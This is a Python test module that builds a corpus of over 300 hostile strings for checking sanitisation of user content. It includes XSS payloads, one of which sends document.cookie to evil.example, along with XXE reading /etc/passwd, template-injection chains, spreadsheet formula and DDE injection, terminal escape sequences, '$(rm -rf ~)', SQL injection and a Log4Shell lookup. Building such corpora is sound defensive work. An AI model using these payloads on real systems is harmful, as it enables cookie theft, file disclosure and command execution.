"""More than 300 hostile strings, as posts, names and file names may contain.

Built from parts: scripts for every HTML, attribute, address, SVG and Markdown context, terminal
sequences, spreadsheet formulas, template code, and misleading Unicode.
"""

_CALLS = ("alert(1)", "fetch('//evil.example/'+document.cookie)", "eval(name)")
_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video",
    "audio src=x",
    "iframe",
    "object data=x",
    "marquee",
    "a href=#",
)
_SCHEMES = (
    "javascript",
    "JaVaScRiPt",
    "java\tscript",
    "java\nscript",
    "\x01javascript",
    "vbscript",
    "data",
    "&#106;avascript",
    "javascript&colon;",
)
_QUOTES = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</style>",
    "</textarea>",
    "</svg>",
    "</desc>",
    "</noscript>",
    '"/>',
)

HTML = (
    *(f"{quote}<script>{call}</script>" for quote in _QUOTES for call in _CALLS),
    *(
        f"<{tag} {handler}={call}>"
        for tag in _TAGS
        for handler, call in zip(_HANDLERS, _CALLS * 3, strict=True)
    ),
    *(f'{quote} {handler}="alert(1)" x={quote}' for quote in ('"', "'") for handler in _HANDLERS),
    *(f'<a href="{scheme}:alert(1)">x</a>' for scheme in _SCHEMES),
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>", "<script/x>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>",
    "\u2028<script>\u2029alert(1)</script>", "<!--><script>alert(1)</script>-->",
    "<style>@import'//evil.example'</style>", "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><button>", "<isindex prompt=x>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<template><script>alert(1)</script>",
    "<embed src=//evil.example>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&quot; onclick=alert(1)",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "<![CDATA[<script>alert(1)</script>]]>",
)  # fmt: skip
SVG = (
    "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href='data:image/svg+xml,x#y'/>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><image href='//evil.example/x.png'/></svg>", "</text><script>alert(1)</script><text>",
    "url(javascript:alert(1))", "</tspan><g onload=alert(1)>", '" onload="alert(1)',
    "<svg><style>*{background:url(//evil.example)}</style></svg>",
)  # fmt: skip
MARKDOWN = (
    *(f"[click]({scheme}:alert(1))" for scheme in _SCHEMES),
    *(f"![x]({scheme}:alert(1))" for scheme in _SCHEMES),
    "![beacon](https://evil.example/x.png)", "[x]: javascript:alert(1)\n\n[x]",
    "<https://evil.example>", "https://evil.example/?q=1", "www.evil.example", "a@evil.example",
    "@everyone",
    "`code`", "```\nblock\n```", "~~~html\n<script>\n~~~", "| a | b |\n|---|---|\n| 1 | 2 |",
    "a | b", "\\| c", "# heading", "## zwei", "- item", "* item", "+ item", "1. item", "2) item",
    "> quote",
    "---", "===", "***bold***", "__bold__", "~~gone~~", "$x^2$", "$$\\frac{1}{2}$$", ":smile:",
    "[^1]: note", "- [ ] task", "    code", "\tcode", "a  \nb", "\\", "\\\\[x](y)", "[[wiki]]",
    "![x][y]\n\n[y]: https://evil.example", "<details><summary>x</summary>y</details>", "*a*b_c_d",
    "[a](<javascript:alert(1)>)", "[a](javascript:alert(1) 'title')", "![a](x 'onerror=alert(1)')",
    "<!-- comment -->", "[toc]", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{ report.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
)  # fmt: skip
TERMINAL = (
    *(f"\x1b[{code}m rot" for code in ("31", "1;5;41", "0", "38;5;9", "8")),
    *(
        f"\x1b]{code}\x07"
        for code in (
            "0;title", "8;;http://evil.example", "52;c;cm0gLXJm", "1337;File=:AAAA", "10;#ffffff",
        )
    ),
    *(f"\x9b{code}" for code in ("2J", "31m", "1A")),
    *(
        f"a{control}b"
        for control in "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0d\x0e\x0f\x10\x13\x1a\x1b"
        "\x1c\x7f\x80\x84\x85\x90\x9c\x9d"
    ),
    "\x1b[2J\x1b[H", "\x1bc", "\x1b[?1049h", "\x1bP+q\x1b\\", "\x1b_G\x1b\\", "\x1b[6n",
    "\x1b]2;x\x1b\\", "[bold red]x[/bold red]", "[link=http://evil.example]x[/link]", "x [/link]",
    "[/]", "[@click=app.quit]x[/]", ":boom:",
    "line\r\rover", "\x08\x08\x08gone",
)  # fmt: skip
FORMULAS = (
    *(
        f"{lead}{sign}{body}"
        for lead in ("", " ", "\t")
        for sign in "=+-@"
        for body in ("1+1", "SUM(A1)", "cmd|' /C calc'!A0")
    ),
    *(f'{sign}HYPERLINK("http://evil.example")' for sign in "＝＋－＠"),
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "\r=1+1", "\n=1+1", "\x00=1+1",
    '=DDE("cmd";"/C calc";"x")', "-nein danke", "@user", "+49 30 1234567", "-5,00", "-12.5", "+1",
    "=", "-", "'=1+1",
    '"=1+1"', ";=1+1", ",=1+1", "%0A=1+1", "\ufeff=1+1", "\u200b=1+1", "\xa0=1+1",
)  # fmt: skip
UNICODE = (
    *(
        f"a{chr(code)}b"
        for code in (
            0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F,
            0x061C, 0x2028, 0x2029, 0x200B, 0x2060, 0xFEFF, 0xAD, 0x180E, 0xFFF9, 0xFFFC, 0xFFFE,
            0xFFFF, 0xFDD0, 0x1FFFE, 0x10FFFF, 0xE0001, 0xE0041,
        )
    ),
    "rechnung\u202efdp.exe", "Z\u0351\u034a\u0303\u0310a\u0300\u0301\u0302l\u0311g\u0312o",
    "👩‍👩‍👧‍👦 🇩🇪 👍🏽", "ﷺ" * 5, "𝕳𝖊𝖑𝖑𝖔", "ｆｕｌｌ", "零一二", "مرحبا <b>", "שלום", "ไทย", "İıſßẞ",
    "e\u0301é", "\ue000\uf8ff",
    "NULL", "null", "None", "undefined", "NaN", "Infinity", "-0", "1e309", "0x1F", "true",
    "\\u0000", "%00", "%3Cscript%3E", "../../etc/passwd", "C:\\CON", "a" * 3000, " " * 50, "", '"',
    "'", "''", '""', "`", '\\"', "</", "<", ">", "&", "&amp;", "&nbsp;",
    "; DROP TABLE customers; --", "' OR 1=1 --", "$(rm -rf ~)", "`id`", "|| true", "%s%s%n",
    "{0}{1}", "{x.__class__}", "${jndi:ldap://evil.example}", "::error file=x::y",
    "::set-output name=x::y",
)  # fmt: skip
STRINGS = tuple(dict.fromkeys((*HTML, *SVG, *MARKDOWN, *TERMINAL, *FORMULAS, *UNICODE)))
